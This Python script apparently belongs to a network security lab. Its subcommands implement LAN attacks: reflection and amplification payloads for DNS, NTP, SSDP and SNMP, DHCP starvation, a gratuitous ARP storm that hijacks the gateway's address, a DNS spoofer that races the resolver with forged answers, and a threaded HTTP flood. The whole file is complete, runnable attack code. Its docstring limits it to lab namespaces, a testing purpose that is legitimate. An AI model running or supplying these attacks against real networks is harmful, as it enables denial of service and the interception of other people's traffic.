#!/usr/bin/env python3
"""LAN attacks the lab has no packaged tool for (standard library only).

Subcommands, each run inside a lab namespace by lab/lib/attacks.sh:

- `payload dns|ntp|ssdp|snmp`: write a reflector request (DNS ANY query, NTP
  mode-3 client request, SSDP unicast M-SEARCH ssdp:all, SNMPv2c GetBulk for
  community public) to stdout, for hping3 -E.
- `dhcp-starve`: DHCP starvation (yersinia/DHCPig style): DISCOVER with a
  random client hardware address (chaddr), take the OFFER with a REQUEST,
  repeat until the pool is empty or the count is reached. Frames leave from
  the attacker's own NIC (Ethernet source = its MAC); only chaddr is random.
- `garp-storm`: a burst of gratuitous ARP replies claiming an address (the
  gateway's) for the sender's MAC, then re-announcing the true owner's MAC,
  as arpspoof does on exit.
- `dns-spoof`: sniff DNS queries on the wire and race the resolver with a
  forged answer (source address = the resolver's, A record = the attacker),
  as ettercap's dns_spoof does. Prints `answered CLIENT NAME` lines.
- `http-flood`: many threads sending complete HTTP GET requests as fast as
  the server accepts them (a layer-7 flood), each on a fresh connection.

Every frame goes out of the namespace's eth0 to addresses given on the
command line or seen on the lab wire; nothing is routed anywhere else.
"""
import argparse
import os
import random
import socket
import struct
import sys
import threading
import time

from frames import checksum, if_mac, mac_bytes, mac_str

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806


def ipv4_udp(src: str, dst: str, sport: int, dport: int, payload: bytes, ident: int) -> bytes:
    udp_len = 8 + len(payload)
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    pseudo = s + d + struct.pack("!BBH", 0, 17, udp_len)
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
    csum = checksum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, ident & 0xFFFF, 0x4000, 64, 17, 0, s, d)
    hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
    return hdr + udp


def raw_socket(ifname: str) -> socket.socket:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((ifname, 0))
    return s


def promisc(sock: socket.socket, ifname: str) -> None:
    # struct packet_mreq { int ifindex; u16 type; u16 alen; u8 addr[8]; }
    SOL_PACKET, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC = 263, 1, 1
    mreq = struct.pack("iHH8s", socket.if_nametoindex(ifname), PACKET_MR_PROMISC, 0, b"")
    sock.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, mreq)


def dns_name(name: str) -> bytes:
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\x00"


# --- payloads for hping3 -E ---------------------------------------------------
def cmd_payload(a) -> None:
    if a.kind == "dns":
        # RD set, one question; type ANY is what amplification tools send,
        # but dnsmasq answers A for its host records either way.
        body = struct.pack("!HHHHHH", 0x1d2b, 0x0100, 1, 0, 0, 0) + dns_name(a.name) + struct.pack("!HH", 255, 1)
    elif a.kind == "ntp":
        body = bytes([0x23]) + bytes(39) + struct.pack("!II", int(time.time()) + 2208988800, 0)
    elif a.kind == "snmp":
        # SNMPv2c GetBulkRequest (RFC 3416), community "public",
        # non-repeaters 0, max-repetitions 40, from mib-2 (1.3.6.1.2.1).
        def t(tag, v):
            return bytes([tag, len(v)]) + v
        vb = t(0x30, t(0x06, bytes([0x2B, 6, 1, 2, 1])) + b"\x05\x00")
        pdu = t(0xA5, t(0x02, b"\x1d") + t(0x02, b"\x00") + t(0x02, b"\x28") + t(0x30, vb))
        body = t(0x30, t(0x02, b"\x01") + t(0x04, b"public") + pdu)
    else:
        body = ("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n"
                'MAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n').encode()
    sys.stdout.buffer.write(body)


# --- DHCP starvation ----------------------------------------------------------
def dhcp_msg(xid: int, chaddr: bytes, mtype: int, req_ip=None, server=None) -> bytes:
    bootp = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, xid, 0, 0x8000,
                        bytes(4), bytes(4), bytes(4), bytes(4), chaddr + bytes(10), b"", b"")
    opts = b"\x63\x82\x53\x63" + bytes([53, 1, mtype])
    opts += bytes([61, 7, 1]) + chaddr
    if req_ip:
        opts += bytes([50, 4]) + socket.inet_aton(req_ip)
    if server:
        opts += bytes([54, 4]) + socket.inet_aton(server)
    opts += bytes([55, 3, 1, 3, 6, 255])
    return bootp + opts


def parse_offer(frame: bytes, xid: int):
    """(offered ip, server id, message type) of a DHCP reply for xid, or None."""
    if len(frame) < 14 + 20 + 8 + 240 or struct.unpack("!H", frame[12:14])[0] != ETH_P_IP:
        return None
    ihl = (frame[14] & 0xF) * 4
    if frame[23] != 17:
        return None
    udp = 14 + ihl
    if struct.unpack("!H", frame[udp + 2:udp + 4])[0] != 68:
        return None
    b = frame[udp + 8:]
    if len(b) < 240 or b[0] != 2 or struct.unpack("!I", b[4:8])[0] != xid:
        return None
    yiaddr = socket.inet_ntoa(b[16:20])
    i, mtype, server = 240, 0, None
    while i + 1 < len(b) and b[i] != 255:
        if b[i] == 0:
            i += 1
            continue
        code, ln = b[i], b[i + 1]
        val = b[i + 2:i + 2 + ln]
        if code == 53 and ln == 1:
            mtype = val[0]
        elif code == 54 and ln == 4:
            server = socket.inet_ntoa(val)
        i += 2 + ln
    return yiaddr, server, mtype


def cmd_dhcp_starve(a) -> None:
    rng = random.Random(a.seed)
    sock = raw_socket(a.iface)
    sock.settimeout(0.05)
    mine = if_mac(a.iface)
    taken = misses = 0
    for n in range(a.count):
        chaddr = bytes([rng.randrange(256) & 0xFC | 0x02] + [rng.randrange(256) for _ in range(5)])
        xid = rng.getrandbits(32)
        udp = ipv4_udp("0.0.0.0", "255.255.255.255", 68, 67, dhcp_msg(xid, chaddr, 1), n)
        sock.send(b"\xff" * 6 + mine + struct.pack("!H", ETH_P_IP) + udp)
        offer, deadline = None, time.time() + a.wait
        while time.time() < deadline:
            try:
                r = parse_offer(sock.recv(2048), xid)
            except socket.timeout:
                continue
            if r and r[2] == 2:
                offer = r
                break
        if offer:
            req = dhcp_msg(xid, chaddr, 3, offer[0], offer[1])
            udp = ipv4_udp("0.0.0.0", "255.255.255.255", 68, 67, req, n + 50000)
            sock.send(b"\xff" * 6 + mine + struct.pack("!H", ETH_P_IP) + udp)
            taken += 1
            print(f"took {offer[0]} for {mac_str(chaddr)}", flush=True)
        else:
            misses += 1
        time.sleep(a.gap)
    print(f"done: {taken} addresses taken, {misses} discovers without an offer", flush=True)


# --- gratuitous ARP storm -----------------------------------------------------
def garp(sender_mac: bytes, eth_src: bytes, ip: str) -> bytes:
    ipb = socket.inet_aton(ip)
    arp = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, 2, sender_mac, ipb, b"\xff" * 6, ipb)
    return b"\xff" * 6 + eth_src + struct.pack("!H", ETH_P_ARP) + arp + bytes(18)


def cmd_garp_storm(a) -> None:
    sock = raw_socket(a.iface)
    mine = if_mac(a.iface)
    for _ in range(a.count):
        sock.send(garp(mine, mine, a.claim))
        time.sleep(a.gap)
    # Put the true binding back, as arpspoof does when it exits.
    if a.owner_mac:
        for _ in range(5):
            sock.send(garp(mac_bytes(a.owner_mac), mine, a.claim))
            time.sleep(0.2)
    print(f"sent {a.count} gratuitous ARPs claiming {a.claim}", flush=True)


# --- DNS spoofing -------------------------------------------------------------
def forge_answer(query: bytes, addr: str):
    """A response to `query` with one A record; None if it is not a plain query."""
    if len(query) < 12:
        return None
    ident, flags, qd = struct.unpack("!HHH", query[:6])
    if flags & 0x8000 or qd != 1:
        return None
    i = 12
    labels = []
    while i < len(query) and query[i] != 0:
        n = query[i]
        if n & 0xC0:
            return None
        labels.append(query[i + 1:i + 1 + n].decode("ascii", "replace"))
        i += 1 + n
    if i + 5 > len(query):
        return None
    qtype = struct.unpack("!H", query[i + 1:i + 3])[0]
    question = query[12:i + 5]
    if qtype != 1:
        return None
    hdr = struct.pack("!HHHHHH", ident, 0x8580 | (flags & 0x0100), 1, 1, 0, 0)
    ans = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(addr)
    return hdr + question + ans, ".".join(labels)


def cmd_dns_spoof(a) -> None:
    sock = raw_socket(a.iface)
    promisc(sock, a.iface)
    sock.settimeout(0.2)
    mine = if_mac(a.iface)
    end = time.time() + a.seconds
    n = 0
    while time.time() < end:
        try:
            f = sock.recv(4096)
        except socket.timeout:
            continue
        if len(f) < 42 or f[6:12] == mine or struct.unpack("!H", f[12:14])[0] != ETH_P_IP:
            continue
        ihl = (f[14] & 0xF) * 4
        if f[23] != 17:
            continue
        src, dst = socket.inet_ntoa(f[26:30]), socket.inet_ntoa(f[30:34])
        u = 14 + ihl
        sport, dport = struct.unpack("!HH", f[u:u + 4])
        if dport != 53 or dst != a.resolver or src == a.addr:
            continue
        forged = forge_answer(f[u + 8:], a.addr)
        if not forged:
            continue
        body, name = forged
        n += 1
        pkt = ipv4_udp(a.resolver, src, 53, sport, body, 0x4000 + n)
        sock.send(f[6:12] + mine + struct.pack("!H", ETH_P_IP) + pkt)
        print(f"answered {src} {name}", flush=True)
    print(f"done: {n} forged answers", flush=True)


# --- HTTP flood ---------------------------------------------------------------
def cmd_http_flood(a) -> None:
    counter = [0, 0]
    lock = threading.Lock()
    end = time.time() + a.seconds
    request = (f"GET {a.path} HTTP/1.1\r\nHost: {a.target}\r\nUser-Agent: Mozilla/5.0\r\n"
               "Accept: */*\r\nConnection: close\r\n\r\n").encode()

    def worker():
        while time.time() < end:
            with lock:
                if counter[0] >= a.count:
                    return
                counter[0] += 1
            try:
                with socket.create_connection((a.target, a.port), timeout=2) as s:
                    s.sendall(request)
                    s.recv(256)
            except OSError:
                with lock:
                    counter[1] += 1

    threads = [threading.Thread(target=worker) for _ in range(a.threads)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"done: {counter[0]} requests, {counter[1]} failed", flush=True)


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("payload")
    s.add_argument("kind", choices=["dns", "ntp", "ssdp", "snmp"])
    s.add_argument("--name", default="home.lan")
    s = sub.add_parser("dhcp-starve")
    s.add_argument("--iface", default="eth0")
    s.add_argument("--count", type=int, default=120)
    s.add_argument("--gap", type=float, default=0.05)
    s.add_argument("--wait", type=float, default=0.5)
    s.add_argument("--seed", type=int, default=1)
    s = sub.add_parser("garp-storm")
    s.add_argument("--iface", default="eth0")
    s.add_argument("--claim", required=True)
    s.add_argument("--owner-mac", default="")
    s.add_argument("--count", type=int, default=400)
    s.add_argument("--gap", type=float, default=0.02)
    s = sub.add_parser("dns-spoof")
    s.add_argument("--iface", default="eth0")
    s.add_argument("--resolver", required=True)
    s.add_argument("--addr", required=True, help="address the forged answers point to")
    s.add_argument("--seconds", type=float, default=40)
    s = sub.add_parser("http-flood")
    s.add_argument("--target", required=True)
    s.add_argument("--port", type=int, default=80)
    s.add_argument("--path", default="/")
    s.add_argument("--threads", type=int, default=16)
    s.add_argument("--count", type=int, default=4000)
    s.add_argument("--seconds", type=float, default=15)
    a = p.parse_args()
    {"payload": cmd_payload, "dhcp-starve": cmd_dhcp_starve, "garp-storm": cmd_garp_storm,
     "dns-spoof": cmd_dns_spoof, "http-flood": cmd_http_flood}[a.cmd](a)


if __name__ == "__main__":
    os.environ.setdefault("PYTHONDONTWRITEBYTECODE", "1")
    main()
